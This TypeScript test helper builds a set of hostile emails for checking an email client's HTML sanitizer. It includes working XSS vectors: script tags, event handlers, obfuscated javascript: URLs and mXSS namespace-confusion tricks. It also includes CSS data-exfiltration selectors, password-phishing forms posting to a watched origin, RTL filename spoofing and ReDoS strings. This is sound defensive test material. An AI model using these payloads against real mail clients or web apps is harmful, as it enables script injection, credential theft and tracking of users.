/**
 * @module tests/helpers/hostile-mail
 * The hostile-email set: one message per payload, covering every payload
 * class of shared/research/reliability.md §1 (numbers in `cls`). Bodies
 * reach the sanitizer unit test as HTML and the e2e test as RFC 822
 * messages delivered through Dovecot. Every remote address points at
 * `remote` (an origin the test watches) so any leak is a visible request.
 */

export interface HostilePayload {
  name: string;
  /** Payload classes of reliability.md §1 this message covers. */
  cls: number[];
  html: string;
  /** Extra MIME parts (attachments) after the HTML part. */
  parts?: string[];
  subject?: string;
  fromName?: string;
  text?: string;
}

const b64 = (s: string) => Buffer.from(s).toString('base64');
const PNG_B64 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
const SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg" onload="top.__canary(\'svg-data\')"><script>top.__canary("svg-data-script")</script></svg>';
const HTML_SCRIPT = '<script>top.__canary("data-html")</script>';

/** Calls the page's canary from inside whatever runs: any call is a script execution. */
const hit = (id: string) => `window.top.__canary('${id}');try{parent.__canary('${id}')}catch(e){};alert('${id}')`;

/** The payloads; `remote` is an http origin outside the app, e.g. http://127.0.0.1:4321. */
export function hostilePayloads(remote: string): HostilePayload[] {
  const px = (n: string) => `${remote}/${n}.png`;
  return [
    { name: 'script-tag', cls: [1], html: `<p>Hello</p><script>${hit('script')}</script><SCRIPT SRC=${remote}/x.js></SCRIPT>` },
    { name: 'svg-script', cls: [1, 4], html: `<svg><script>${hit('svg-script')}</script><use href="data:image/svg+xml;base64,${b64(SVG_SCRIPT)}#x"/></svg>` },
    { name: 'event-handlers', cls: [2], html: `<img src=x onerror="${hit('onerror')}"><body onload="${hit('onload')}"><div onmouseover="${hit('mouseover')}">hover</div><details open ontoggle="${hit('ontoggle')}"><summary>x</summary></details>` },
    { name: 'animation-event', cls: [2], html: `<style>@keyframes k{from{color:red}}</style><div style="animation-name:k;animation-duration:1s" onanimationstart="${hit('anim')}" class="spinner">spin</div>` },
    { name: 'javascript-urls', cls: [3, 24], html: `<a href="javascript:${hit('js-href')}">one</a> <a href="java&#09;script:${hit('js-tab')}">two</a> <a href="  javascript:${hit('js-space')}">three</a> <a href="&#106;avascript:${hit('js-entity')}">four</a> <a href="JaVaScRiPt:${hit('js-case')}">five</a>` },
    { name: 'data-vbscript-urls', cls: [3], html: `<a href="data:text/html;base64,${b64(HTML_SCRIPT)}">data</a> <a href="vbscript:msgbox(1)">vb</a> <a href="data:text/html,${encodeURIComponent(HTML_SCRIPT)}" target="_self">d2</a>` },
    { name: 'svg-animate-href', cls: [5], html: `<svg><a><animate attributeName="href" values="javascript:${hit('animate')}"/><text y="20">click</text></a><set attributeName="onmouseover" to="${hit('set')}"/><animate attributeName="style" values="background:url(${px('anim-style')})"/></svg>` },
    { name: 'namespace-confusion', cls: [6], html: `<svg><style><//><body onload="${hit('ns-style')}"></style></svg><svg></p><style><a id="</style><img src=1 onerror=${hit('ns-p')}>"></svg>` },
    { name: 'mathml-mglyph', cls: [6], html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=${hit('mglyph')}&gt;">` },
    { name: 'form-in-math', cls: [6], html: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${hit('form-math')} src>">` },
    { name: 'rawtext-escapes', cls: [7], html: `<noscript><p title="</noscript><img src=x onerror=${hit('noscript')}>"></noscript><xmp><p title="</xmp><img src=x onerror=${hit('xmp')}>"></xmp><noembed><p title="</noembed><img src=x onerror=${hit('noembed')}>"></noembed><textarea><p title="</textarea><img src=x onerror=${hit('textarea')}>"></textarea><iframe><p title="</iframe><img src=x onerror=${hit('iframe-raw')}>"></iframe>` },
    { name: 'map-area', cls: [8], html: `<img usemap="#m" src="${px('map')}"><map name="m"><area shape="rect" coords="0,0,100,100" href="javascript:${hit('area')}"></map>` },
    { name: 'embeds', cls: [9], html: `<embed src="data:image/svg+xml;base64,${b64(SVG_SCRIPT)}"><object data="data:text/html;base64,${b64(HTML_SCRIPT)}"></object><iframe srcdoc="<script>${hit('srcdoc')}</script>"></iframe><iframe src="${remote}/frame.html"></iframe><applet code="x"></applet>` },
    { name: 'base-meta', cls: [10], html: `<base href="${remote}/"><meta http-equiv="refresh" content="0;url=${remote}/refresh"><meta http-equiv="Content-Security-Policy" content="script-src *"><a href="relative">relative link</a><img src="relative.png">` },
    { name: 'forms', cls: [11], html: `<form action="${remote}/steal" method="post"><input name="password" type="password" placeholder="Re-enter your password"><button formaction="${remote}/steal2">Log in</button><input type="image" src="${px('input-image')}"><isindex action="${remote}/i"></form>` },
    { name: 'desanitization-bait', cls: [12], html: `<a title="bgcolor=x" name="a onload=${hit('bait')}">bait</a><img alt="x&quot; onerror=&quot;${hit('bait-alt')}">` },
    { name: 'css-import-escapes', cls: [13], html: `<style>@import "${remote}/a.css"; @import url(${remote}/b.css); @\\69mport "${remote}/c.css"; @im/**/port "${remote}/d.css"; p{color:red}</style><p>styled</p>` },
    { name: 'css-expression-behavior', cls: [13], html: `<div style="width:expression(${hit('expression')});behavior:url(${remote}/x.htc);-moz-binding:url(${remote}/x.xml#x);background:url(javascript:${hit('css-js')})">old IE</div><style>p{x:expr\\65ssion(alert(1));background-image:u\\72l(${px('escaped-url')})}</style>` },
    { name: 'css-exfiltration', cls: [14], html: `<style>a[href^="h"]{background:url(${px('exfil-h')})}input[value^="a"]{background-image:url("${px('exfil-a')}")}</style><a href="https://example.com">link</a>` },
    { name: 'ui-redress-overlay', cls: [15], html: `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:white">Your session expired. <a href="https://phish.example/login">Log in again</a></div><style>body{display:none !important}html,body,*{position:fixed !important}.app-shell,#svelte,nav{display:none}</style>` },
    { name: 'host-style-leak', cls: [15], html: `<style>:root{--color-text:red}body{background:red !important;font-size:40px}*{visibility:hidden}</style><p>restyle the host</p>` },
    { name: 'tracking-pixel', cls: [16], html: `<p>Newsletter</p><img src="${px('pixel')}" width="1" height="1" alt=""><img src="${remote}/open?id=123" style="display:none">` },
    { name: 'remote-css-loads', cls: [17], html: `<div style="background:url(${px('bg-url')})">bg</div><div style="background-image:image-set('${px('image-set')}' 1x)">is</div><div style="--x:url(${px('var')});background:var(--x)">var</div><style>@font-face{font-family:x;src:url(${remote}/font.woff)}</style><p style="font-family:x">font</p>` },
    { name: 'remote-attribute-loads', cls: [17], html: `<img srcset="${px('srcset')} 1x, ${px('srcset2')} 2x"><picture><source srcset="${px('picture')}"><img src="${px('picture-img')}"></picture><table background="${px('table-bg')}"><tr><td background="${px('td-bg')}">cell</td></tr></table><video poster="${px('poster')}"></video><audio src="${remote}/a.mp3"></audio>` },
    { name: 'remote-link-ping', cls: [17], html: `<link rel="stylesheet" href="${remote}/s.css"><link rel="prefetch" href="${remote}/p"><link rel="dns-prefetch" href="${remote}"><a href="https://example.com/" ping="${remote}/ping">ping link</a><img src="http://mixed.example/${'x'}.png">` },
    { name: 'svg-fetchers', cls: [18], html: `<svg><filter id="f"><feImage href="${px('feimage')}"/></filter><image href="${px('svg-image')}"/><image xlink:href="${px('svg-xlink')}"/><rect style="fill:url(${px('fill')})"/><animate attributeName="href" from="${px('smil-a')}" to="${px('smil-b')}"/></svg>` },
    { name: 'header-xss', cls: [21], html: '<p>Check the subject and sender.</p>', subject: '=?UTF-8?B?' + b64(`<img src=x onerror="${hit('subject')}">`) + '?=', fromName: `<img src=x onerror=${hit('from')}>` },
    { name: 'utf7-charset', cls: [22], html: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>utf7</p>' },
    {
      name: 'rtl-filename',
      cls: [20, 22],
      html: '<p>See the invoice.</p>',
      fromName: 'Support \u202Eelgoog\u202C',
      parts: [
        'Content-Type: application/octet-stream; name="invoice\u202Efdp.exe"\r\nContent-Disposition: attachment; filename*=UTF-8\'\'invoice%E2%80%AEfdp.exe\r\nContent-Transfer-Encoding: base64\r\n\r\n' + b64('MZ not really'),
      ],
    },
    {
      name: 'hostile-attachments',
      cls: [20],
      html: '<p>Attachments</p><img src="cid:page@evil.test"><img src="cid:logo@evil.test">',
      parts: [
        'Content-Type: text/html; name="page.html"\r\nContent-ID: <page@evil.test>\r\nContent-Disposition: attachment; filename="page.html"\r\n\r\n' + HTML_SCRIPT,
        'Content-Type: image/svg+xml; name="pic.svg"\r\nContent-Disposition: attachment; filename="pic.svg"\r\n\r\n' + SVG_SCRIPT,
        'Content-Type: application/xhtml+xml; name="x.xhtml"\r\nContent-Disposition: attachment; filename="x.xhtml"\r\n\r\n<html xmlns="http://www.w3.org/1999/xhtml">' + HTML_SCRIPT + '</html>',
        'Content-Type: application/javascript; name="run.js"\r\nContent-Disposition: attachment; filename="run.js"\r\n\r\nalert(1)',
        'Content-Type: image/png; name="logo.png"\r\nContent-ID: <logo@evil.test>\r\nContent-Disposition: inline; filename="logo.png"\r\nContent-Transfer-Encoding: base64\r\n\r\n' + PNG_B64,
      ],
    },
    { name: 'plain-linkify', cls: [23], html: '', text: `Visit http://x.example/?"onmouseover="${hit('linkify')}" and https://ok.example/a.` },
    { name: 'tabnabbing', cls: [24], html: '<a href="https://example.com/" target="_self">self</a><a href="https://example.com/" target="_top">top</a><a href="https://example.com/" rel="opener">opener</a>' },
    { name: 'deep-nesting', cls: [25], html: `${'<div>'.repeat(5000)}deep${'</div>'.repeat(5000)}${'<b><i>'.repeat(2000)}x` },
    { name: 'redos-strings', cls: [25], html: `<p>${'a'.repeat(20000)}!</p><a href="https://x.example/${'%'.repeat(3000)}">${'<'.repeat(3000)}</a><style>${'a{'.repeat(2000)}</style>` },
    { name: 'alternative-disagree', cls: [26], html: `<p>The HTML says pay account 666.</p><img src="${px('alt')}">`, text: 'The text says pay account 123.' },
    { name: 'nested-rfc822', cls: [26], html: '<p>Forwarded below</p>', parts: [`Content-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\nSubject: inner\r\nContent-Type: text/html\r\n\r\n<script>${hit('inner')}</script><img src="${px('inner')}">`] },
    { name: 'mixed-bag', cls: [1, 2, 3, 17], html: `<a href="https://good.example/" onclick="${hit('click')}">good</a><img src="${px('bag')}" onload="${hit('onload-img')}"><iframe src="javascript:${hit('iframe-js')}"></iframe><object data="${remote}/o.swf"></object>` },
    { name: 'comment-cdata', cls: [6, 7], html: `<!--<img src=x onerror=${hit('comment')}>--><![CDATA[<img src=x onerror=${hit('cdata')}>]]><?xml-stylesheet href="${remote}/x.xsl"?>` },
    { name: 'template-shadow', cls: [6], html: `<template><img src=x onerror=${hit('template')}></template><div><template shadowrootmode="open"><img src=x onerror=${hit('shadow')}></template></div>` },
    { name: 'dom-clobbering', cls: [12], html: `<form id="__canary"></form><img name="getElementById"><a id="defaultView" href="https://x.example/">x</a>` },
    { name: 'marquee-blink', cls: [15], html: `<marquee onstart="${hit('marquee')}">moving</marquee><blink>old</blink>` },
    { name: 'url-obfuscation', cls: [3, 17], html: `<a href="https:&#x2F;&#x2F;ok.example/">entity https</a><img src="&#104;ttp://${remote.replace(/^https?:\/\//, '')}/entity.png"><img src=" ${px('spaced')} "><img src="//${remote.replace(/^https?:\/\//, '')}/protocol-relative.png">` },
    { name: 'content-property', cls: [13], html: '<style>p::before{content:"</style><script>alert(1)</script>"}p::after{content:url(x)}</style><p>content</p>' },
    { name: 'safe-rich', cls: [], html: '<table style="border-collapse:collapse"><tr><td style="padding:8px;color:#123456;font-weight:bold">Quarterly</td></tr></table><p style="text-align:center">Thanks, <a href="mailto:sales@example.com">Sales</a> · <a href="tel:+15550100">call</a></p><div class="gmail_quote"><div class="gmail_attr">On Mon, Nov 23, 2026, Ada wrote:</div><blockquote class="gmail_quote">The earlier quarterly figures.</blockquote></div>' },
  ];
}

/** One payload as an RFC 822 message. */
export function hostileEml(p: HostilePayload, i: number, to: string, date: Date): string {
  const boundary = `hostile-${i}`;
  const from = `"${p.fromName ?? `Hostile ${p.name}`}" <attacker${i}@evil.example>`;
  const alternative = p.text !== undefined && p.html !== '';
  const body: string[] = [];
  if (p.html === '' && p.text !== undefined) {
    body.push('Content-Type: text/plain; charset=utf-8', '', p.text);
  } else {
    const parts: string[] = [];
    if (alternative) {
      parts.push(`Content-Type: text/plain; charset=utf-8\r\n\r\n${p.text ?? ''}`);
    }
    parts.push(`Content-Type: text/html; charset=${p.name === 'utf7-charset' ? 'utf-7' : 'utf-8'}\r\n\r\n${p.html}`);
    parts.push(...(p.parts ?? []));
    const type = p.parts?.length ? 'multipart/mixed' : alternative ? 'multipart/alternative' : 'multipart/mixed';
    body.push(`Content-Type: ${type}; boundary="${boundary}"`, '', ...parts.flatMap((part) => [`--${boundary}`, part]), `--${boundary}--`);
  }
  return [
    `From: ${from}`,
    `To: ${to}`,
    `Subject: ${p.subject ?? `Hostile: ${p.name}`}`,
    `Date: ${date.toUTCString()}`,
    `Message-ID: <hostile-${i}-${p.name}@evil.example>`,
    'MIME-Version: 1.0',
    ...body,
    '',
  ].join('\r\n');
}
